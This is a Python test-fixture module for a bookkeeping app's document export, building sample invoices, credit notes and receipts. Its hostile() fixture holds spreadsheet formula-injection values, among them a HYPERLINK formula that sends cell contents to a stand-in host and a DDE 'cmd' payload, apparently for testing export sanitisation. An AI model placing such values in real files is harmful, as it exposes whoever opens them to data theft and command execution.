"""Documents as an export takes them, of every kind that bookkeeping meets."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from sheaf.capture.documents import Status
from sheaf.capture.reading import DocumentType, Field, LineItem, Reading, Source, TaxLine
from sheaf.exports.rows import ExportedDocument

AT = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)


def exported(number: int = 1, reading: Reading | None = None, **changes: Any) -> ExportedDocument:
    made = ExportedDocument(
        id=f"doc_01m7w4n5e0fgks6tnnfmsw{number:04}",
        filename=f"{number}.pdf",
        status=Status.APPROVED,
        created_at=AT,
        decided_at=AT,
        reading=reading or invoice(),
    )
    return made.model_copy(update=changes)


def reading(kind: str = "invoice", lines: Any = (), taxes: Any = (), **values: str | None) -> Reading:
    return Reading(
        document_type=DocumentType(kind),
        engine=Source.TEXTRACT,
        fields={name: Field(value=value, source=Source.TEXTRACT) for name, value in values.items() if value},
        line_items=tuple(LineItem(**line) for line in lines),
        tax_breakdown=tuple(TaxLine(**line) for line in taxes),
    )


def invoice(**changes: str | None) -> Reading:
    values: dict[str, str | None] = {
        "vendor": "Moulin & Fils",
        "vendor_address": "12 rue du Four\n69002 Lyon\nFR",
        "vendor_tax_id": "FR40303265045",
        "buyer": "Sheaf Demo Ltd",
        "invoice_number": "F-2026-17",
        "invoice_date": "2026-10-31",
        "due_date": "2026-11-30",
        "payment_terms": "30 days net",
        "currency": "EUR",
        "subtotal": "100.00",
        "tax": "15.50",
        "total": "115.50",
        "iban": "FR7630006000011234567890189",
        "bic": "AGRIFRPP",
    }
    lines = (
        {"description": "Flour", "quantity": "4", "unit": "KGM", "unit_price": "17.50", "tax_rate": "20",
         "amount": "70.00"},
        {"description": "Bread", "quantity": "12", "unit_price": "2.5", "tax_rate": "5", "amount": "30.00"},
    )  # fmt: skip
    taxes = (
        {"rate": "20", "base": "70.00", "amount": "14.00"},
        {"rate": "5", "base": "30.00", "amount": "1.50"},
    )
    return reading(lines=lines, taxes=taxes, **(values | changes))


def credit_note(sign: str = "") -> Reading:
    """Whose sums and lines are printed with that sign."""
    return reading(
        "credit_note",
        lines=(
            {"description": "Returned chairs", "quantity": f"{sign}2", "unit_price": "50.00",
             "tax_rate": "19", "amount": f"{sign}100.00"},
        ),
        taxes=({"rate": "19", "base": f"{sign}100.00", "amount": f"{sign}19.00"},),
        vendor="Möbel Groß GmbH", invoice_number="GS-9", invoice_date="2026-10-02", currency="EUR",
        subtotal=f"{sign}100.00", tax=f"{sign}19.00", total=f"{sign}119.00",
    )  # fmt: skip


def gross_receipt() -> Reading:
    """Lines with tax in them, no number, no due date."""
    return reading(
        "receipt",
        lines=({"description": "Tea", "amount": "3.00"}, {"description": "Cake", "amount": "9.00"}),
        taxes=({"rate": "20", "base": "10.00", "amount": "2.00"},),
        vendor="Corner Café", invoice_date="2026-09-01", currency="GBP", tax="2.00", total="12.00",
    )  # fmt: skip


def without_lines() -> Reading:
    return reading(
        vendor="東京商事", invoice_number="T-1", invoice_date="2026-01-05", currency="JPY", total="120000"
    )


def hostile() -> Reading:
    return reading(
        lines=(
            {"description": '=HYPERLINK("https://x.example?"&A1)', "amount": "-5.00"},
            {"description": "\t@SUM(1)", "amount": "15.00"},
        ),
        vendor="+1-800 Plumbing", invoice_number="-2+3", invoice_date="2026-02-28", currency="USD",
        total="10.00",
        buyer="  \N{FULLWIDTH EQUALS SIGN}cmd|'/C calc'!A0", payment_terms='say "now"\r\nor never',
    )  # fmt: skip


def every_kind() -> list[ExportedDocument]:
    readings = (invoice(), credit_note(), credit_note("-"), gross_receipt(), without_lines(), hostile())
    return [exported(number, each) for number, each in enumerate(readings, start=1)]
